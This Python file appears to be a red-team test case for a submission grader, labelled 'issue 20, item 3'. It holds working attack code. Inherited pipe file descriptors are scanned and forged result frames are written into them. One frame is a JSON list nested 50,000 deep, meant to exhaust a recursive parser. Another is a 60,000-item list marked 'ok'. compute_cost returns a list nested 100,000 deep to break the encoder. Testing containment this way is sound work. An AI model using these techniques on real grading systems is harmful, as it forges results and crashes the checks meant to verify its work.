# RED-TEAM ATTACK (issue 20, item 3): results nested as deep as they go.
# Route: compute_cost returns a list nested 100,000 deep (the job's encoder stops at 32 levels);
#   linear_forward sends a forged result whose header is a JSON list nested 50,000 deep (a parser
#   that recurses runs out of stack), linear_activation_forward one whose value is a list of 60,000
#   ints (built in full on the trusted side, before judging, by a decoder that does not count).
# Contained when: nothing raises on the trusted side, the three functions and the end-to-end check
#   score 0, the rest is graded as correct, and the honest submission graded next is unchanged.
# attacked: compute_cost, linear_forward, linear_activation_forward
# run: batch
import json
import stat
import struct
import sys

SENT = []


def _frame(kind, payload):
    return kind + struct.pack(">I", len(payload)) + payload


def _message(raw):
    return struct.pack(">I", len(raw)) + raw


def _send(data):
    posix = sys.modules.get("posix") or __import__("posix")
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(posix.fstat(fd).st_mode):
                view = memoryview(data)
                while view:
                    view = view[posix.write(fd, view):]
        except OSError:
            pass


def compute_cost(AL, Y):
    deep = []
    for _ in range(100000):
        deep = [deep]
    return deep


def linear_forward(A, W, b):
    if not SENT:
        SENT.append(1)
        _send(_frame(b"C", _message(b'{"~":"list","v":[' * 50000 + b"0" + b"]}" * 50000)))
    return [[0]], None


def linear_activation_forward(A_prev, W, b, activation):
    if not SENT:
        SENT.append(1)
        wide = {"~": "dict", "v": [["i", 0], ["status", "ok"], ["seconds", 0],
                                   ["value", {"~": "list", "v": [0] * 60000}]]}
        _send(_frame(b"C", _message(json.dumps(wide, separators=(",", ":")).encode())))
    return [[0]], None


# __HONEST_REST__
